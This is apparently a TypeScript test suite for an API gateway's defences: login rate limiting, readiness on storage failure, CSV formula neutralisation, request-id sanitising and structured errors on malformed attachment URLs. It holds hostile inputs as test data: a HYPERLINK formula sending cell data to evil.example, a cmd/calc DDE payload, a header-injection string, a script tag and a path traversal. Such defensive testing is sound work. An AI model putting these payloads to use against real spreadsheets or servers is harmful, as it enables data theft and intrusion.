/**
 * Hostile API clients and failing storage: guessing keys is rate limited per address (429 after
 * limits.authFailuresPerMinute failures, whatever key comes next); /readyz fails while the store cannot write; a
 * CSV export cell that a spreadsheet would run as a formula is neutralised; a client's x-request-id is used only
 * when short and of a safe alphabet; an attachment download never answers a raw 500 or Fastify's own error shape
 * (an over-long path parameter, a broken percent-encoding): always `{ code, message }`.
 */
import { randomBytes } from 'node:crypto'
import t from 'tap'
import { auth, buildTestApp, KEYS, sampleDocument } from '../helper.js'

t.test('failed authentications: 429 per address after the limit, even with a right key', async (t) => {
  const { app } = await buildTestApp(t, { config: { limits: { authFailuresPerMinute: 20 } } })
  const codes: number[] = []
  for (let i = 0; i < 300; i++) {
    const res = await app.inject({ method: 'GET', url: '/v1/inbox', headers: auth(randomBytes(16).toString('hex')), remoteAddress: '203.0.113.7' })
    codes.push(res.statusCode)
  }
  t.same(codes.slice(0, 20), Array(20).fill(401), 'the first 20 wrong keys: 401')
  t.same(codes.slice(20), Array(280).fill(429), 'then 429 for the rest of the minute')
  const right = await app.inject({ method: 'GET', url: '/v1/inbox', headers: auth(KEYS.h29), remoteAddress: '203.0.113.7' })
  t.equal(right.statusCode, 429, 'a right key from that address learns nothing')
  t.equal(right.json().code, 'GW_ERR_API_RATE_LIMITED')
  t.ok(Number(right.headers['retry-after']) >= 1, 'Retry-After')
  const other = await app.inject({ method: 'GET', url: '/v1/inbox', headers: auth(KEYS.h29), remoteAddress: '198.51.100.9' })
  t.equal(other.statusCode, 200, 'another address is not affected')
  const none = await app.inject({ method: 'GET', url: '/v1/inbox', remoteAddress: '198.51.100.10' })
  t.equal(none.statusCode, 401, 'no key: 401 (and counted)')
  t.equal((await app.inject({ method: 'GET', url: '/healthz', remoteAddress: '203.0.113.7' })).statusCode, 200, 'public routes stay open')
})

t.test('/readyz fails while the store cannot write, and recovers', async (t) => {
  const { app, store } = await buildTestApp(t)
  t.equal((await app.inject({ method: 'GET', url: '/readyz' })).statusCode, 200)
  // a full disk, for this SQLite connection: no page may be added
  const db = (store as unknown as { db: { pragma(s: string, o?: { simple: boolean }): unknown } }).db
  const pages = Number(db.pragma('page_count', { simple: true }))
  db.pragma(`max_page_count = ${pages}`)
  const pdf = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(200_000, 0x20), Buffer.from('%%EOF\n')]).toString('base64')
  const send = () => app.inject({ method: 'POST', url: '/v1/documents', headers: auth(KEYS.g22), payload: sampleDocument({ attachments: [{ name: 'lon.pdf', contentType: 'application/pdf', data: pdf }] }) })
  const failed = await send()
  t.equal(failed.statusCode, 503, failed.body.slice(0, 200))
  t.equal(failed.json().code, 'GW_ERR_STORE_UNAVAILABLE')
  const ready = await app.inject({ method: 'GET', url: '/readyz' })
  t.equal(ready.statusCode, 503, 'not ready while writes fail')
  t.match(ready.json(), { status: 'unavailable', checks: { store: { ok: false, detail: /writes fail/ } } })
  t.equal((await app.inject({ method: 'GET', url: '/healthz' })).statusCode, 200, 'the process is alive all the same')
  db.pragma('max_page_count = 1073741823')
  t.equal((await send()).statusCode, 202, 'disk space back: the write goes through')
  t.equal((await app.inject({ method: 'GET', url: '/readyz' })).statusCode, 200, 'and ready again')
})

t.test('CSV export: cells starting with = + - @ (and tab, CR) are neutralised; numbers are not', async (t) => {
  const { app, store } = await buildTestApp(t)
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1']
  for (const cause of hostile) await store.appendEvent({ direction: 'in', type: 'note', actor: 'system', cause })
  const res = await app.inject({ method: 'GET', url: '/v1/log/export.csv', headers: auth(KEYS.ops) })
  t.equal(res.statusCode, 200)
  const body = res.body
  for (const c of hostile) t.ok(body.includes(`"'${c.replace(/"/g, '""')}"`), `${JSON.stringify(c)} written as text`)
  t.notOk(/,"[=+\-@]/.test(body), 'no cell starts with a formula character')
  t.match(body, /\r\n"1","/, 'seq numbers as they are')
})

t.test('x-request-id: a short safe one is kept, anything else replaced', async (t) => {
  const { app } = await buildTestApp(t)
  const ask = (id: string) => app.inject({ method: 'GET', url: '/healthz', headers: { 'x-request-id': id } })
  t.equal((await ask('dms-42.req:7_a-b')).headers['x-request-id'], 'dms-42.req:7_a-b', 'kept')
  for (const bad of ['x'.repeat(65), 'a b', 'id\r\nx-evil: 1'.replace(/[\r\n]/g, ''), '<script>', 'ü', '']) {
    const got = String((await ask(bad)).headers['x-request-id'])
    t.not(got, bad, `${JSON.stringify(bad.slice(0, 20))} replaced`)
    t.match(got, /^[0-9a-f-]{36}$/, 'by a uuid of ours')
  }
})

t.test('attachment download: never a raw 500, every error keeps { code, message }, Fastify\'s own ones too', async (t) => {
  const { app } = await buildTestApp(t)
  const ask = (url: string, key: string = KEYS.h29) => app.inject({ method: 'GET', url, headers: auth(key) })
  const id = '0190f3c2-0000-7000-8000-000000000000'
  const cases: [string, string][] = [
    [`/v1/inbox/${id}/attachments/${'x'.repeat(5000)}`, 'a content id far over Fastify\'s parameter length'],
    [`/v1/inbox/${'y'.repeat(5000)}/attachments/a`, 'a package id far over it'],
    [`/v1/inbox/${id}/attachments/${encodeURIComponent('\u0000\u202e.pdf')}`, 'control and bidi characters'],
    [`/v1/inbox/${id}/attachments/%E0%A4%A`, 'a broken percent-encoding'],
    [`/v1/inbox/${id}/attachments/${encodeURIComponent('../../etc/passwd')}`, 'a path'],
    [`/v1/inbox/not-a-uuid/attachments/a`, 'not a package id'],
    [`/v1/inbox/${id}/attachments/a`, 'a package that does not exist'],
  ]
  for (const [url, what] of cases) {
    const r = await ask(url)
    t.ok(r.statusCode >= 400 && r.statusCode < 500, `${what}: ${r.statusCode}, not a 5xx`)
    const body = r.json() as { code?: unknown; message?: unknown }
    t.ok(typeof body.code === 'string' && String(body.code).startsWith('GW_ERR_') && typeof body.message === 'string', `${what}: { code, message } (${String(body.code)})`)
  }
  const noKey = await app.inject({ method: 'GET', url: `/v1/inbox/${id}/attachments/${'x'.repeat(5000)}` })
  t.equal(noKey.json().code?.startsWith('GW_ERR_'), true, 'without a key as well')
})
